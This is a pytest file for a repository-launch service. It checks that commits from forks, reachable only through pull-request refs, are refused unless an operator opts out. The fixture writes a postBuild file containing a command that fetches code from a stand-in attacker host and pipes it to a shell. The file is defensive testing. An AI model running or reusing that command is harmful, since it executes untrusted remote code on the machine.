"""Commits from forks do not run under the parent's name (issue 12).

The parent repository on the test git server holds a fork's commit the way GitHub does:
its objects are in the parent's store and a pull-request ref (refs/pull/1/head) points at
it, so fetching that SHA through the parent's URL works. Parse, resolve and fetch are the
real ones, with real git over HTTP.
"""

import pytest
from traitlets.config import Config

from binderlab.errors import LaunchError
from binderlab.repos.mirrors import RepoMirrors
from binderlab.repos.providers import GitHubRepoProvider
from tests.harness.gitserver import GitServer, git


@pytest.fixture(scope="module")
def parent(tmp_path_factory):
    root = tmp_path_factory.mktemp("forks")
    srv = GitServer(root)
    work, bare = root / "work", srv.root / "org" / "repo"
    work.mkdir()
    git("init", "-q", "-b", "main", cwd=work)
    (work / "README.md").write_text("one\n")
    git("add", "-A", cwd=work)
    git("commit", "-q", "-m", "old", cwd=work)
    old = git("rev-parse", "HEAD", cwd=work)
    (work / "README.md").write_text("two\n")
    git("commit", "-q", "-am", "tip", cwd=work)
    tip = git("rev-parse", "HEAD", cwd=work)
    git("tag", "-a", "-m", "release", "v1", cwd=work)
    git("checkout", "-q", "-b", "fork", cwd=work)
    (work / "postBuild").write_text("curl attacker.example | sh\n")
    git("add", "-A", cwd=work)
    git("commit", "-q", "-m", "fork's code", cwd=work)
    fork = git("rev-parse", "HEAD", cwd=work)
    git("init", "-q", "--bare", "-b", "main", str(bare), cwd=root)
    git("push", "-q", str(bare), "main", "--tags", "fork:refs/pull/1/head", cwd=work)
    git("update-server-info", cwd=bare)
    srv.shas = {"old": old, "tip": tip, "fork": fork}
    yield srv
    srv.close()


def provider(server, **options) -> GitHubRepoProvider:
    c = Config()
    c.GitRepoProvider.allowed_protocols = ["http"]
    c.GitHubRepoProvider.host = server.url
    for name, value in options.items():
        setattr(c.GitRepoProvider, name, value)
    return GitHubRepoProvider(config=c)


async def launch(server, tmp_path, ref, **options):
    """What the pipeline does before anything is built: parse, resolve, fetch."""
    gh = provider(server, **options)
    resolved = await gh.resolve(gh.parse(f"org/repo/{ref}"), [])
    mirrors = RepoMirrors(tmp_path / "git", timeout=30)
    mirror = await mirrors.fetch(resolved.spec.clone_url, resolved.commit,
                                 resolved.allowed_protocols, resolved.git_config,
                                 reachable_only=resolved.verify_reachable)
    return resolved, mirrors, mirror


def test_the_fork_commit_really_is_served_through_the_parent(parent):
    # the precondition of the attack: without it the tests below prove nothing
    out = git("ls-remote", f"{parent.url}/org/repo", cwd=parent.root)
    assert f"{parent.shas['fork']}\trefs/pull/1/head" in out


async def test_a_fork_commit_by_sha_is_refused_and_not_fetched(parent, tmp_path):
    with pytest.raises(LaunchError) as info:
        await launch(parent, tmp_path, parent.shas["fork"])
    assert info.value.status_code == 404
    assert "not on any branch or tag" in str(info.value)
    assert "fork" in str(info.value)
    mirrors = RepoMirrors(tmp_path / "git", timeout=30)
    mirror = mirrors._path(f"{parent.url}/org/repo")
    assert not await mirrors.has_commit(mirror, parent.shas["fork"])


async def test_a_pull_request_ref_is_refused(parent, tmp_path):
    with pytest.raises(LaunchError) as info:
        await launch(parent, tmp_path, "refs/pull/1/head")
    assert info.value.status_code == 404
    assert "refs/pull" in str(info.value)


@pytest.mark.parametrize("which", ["tip", "old"])
async def test_the_repositorys_own_commits_launch(parent, tmp_path, which):
    resolved, mirrors, mirror = await launch(parent, tmp_path, parent.shas[which])
    assert resolved.commit == parent.shas[which]
    # a tip needs no history; an older commit is checked against the branches' history
    assert resolved.verify_reachable is (which == "old")
    assert await mirrors.has_commit(mirror, parent.shas[which])


async def test_branches_and_tags_still_resolve(parent, tmp_path):
    resolved, _, _ = await launch(parent, tmp_path, "v1")
    assert resolved.commit == parent.shas["tip"]
    resolved, _, _ = await launch(parent, tmp_path, "refs/heads/main")
    assert resolved.commit == parent.shas["tip"]


async def test_the_operator_can_opt_out(parent, tmp_path):
    resolved, mirrors, mirror = await launch(parent, tmp_path, parent.shas["fork"],
                                             allow_unadvertised_commits=True)
    assert await mirrors.has_commit(mirror, parent.shas["fork"])
    resolved, _, _ = await launch(parent, tmp_path, "refs/pull/1/head",
                                  allow_unadvertised_commits=True)
    assert resolved.commit == parent.shas["fork"]


async def test_a_fork_commit_already_in_the_mirror_is_still_refused(parent, tmp_path):
    # an earlier opted-out launch (or an old version) left the commit in the mirror
    await launch(parent, tmp_path, parent.shas["fork"], allow_unadvertised_commits=True)
    with pytest.raises(LaunchError) as info:
        await launch(parent, tmp_path, parent.shas["fork"])
    assert info.value.status_code == 404


@pytest.mark.docker
def test_a_launch_of_a_fork_commit_fails_through_the_service(make_service, git_server):
    """The same through `binderlab serve`'s /build (the pipeline's wiring): a fork's commit
    under the parent's name gets a failed event with a 404, the parent's own commit builds."""
    from tests.harness.gitserver import git as run_git
    from tests.harness.sse import follow

    repo = git_server.create("dockerfile")
    own = repo.commit({"lesson.ipynb": "{}"}, "the parent's own")
    run_git("checkout", "-q", "-b", "fork", cwd=repo.work)
    fork = repo.commit({"postBuild": "echo fork\n"}, "fork's code", branch="fork")
    # only a pull-request ref holds it in the parent, as on GitHub
    run_git("push", "-q", "--force", str(repo.bare), f"{fork}:refs/pull/7/head",
            ":refs/heads/fork", cwd=repo.work)
    run_git("update-server-info", cwd=repo.bare)
    svc = make_service("serve")
    failed = follow(f"{svc.url}build/gh/{repo.gh_spec}/{fork}",
                    params={"build_only": "true"})[-1]
    assert failed["phase"] == "failed" and failed["status_code"] == 404, failed
    assert "not on any branch or tag" in failed["message"]
    built = follow(f"{svc.url}build/gh/{repo.gh_spec}/{own}", params={"build_only": "true"})[-1]
    assert built["phase"] in ("built", "ready"), built
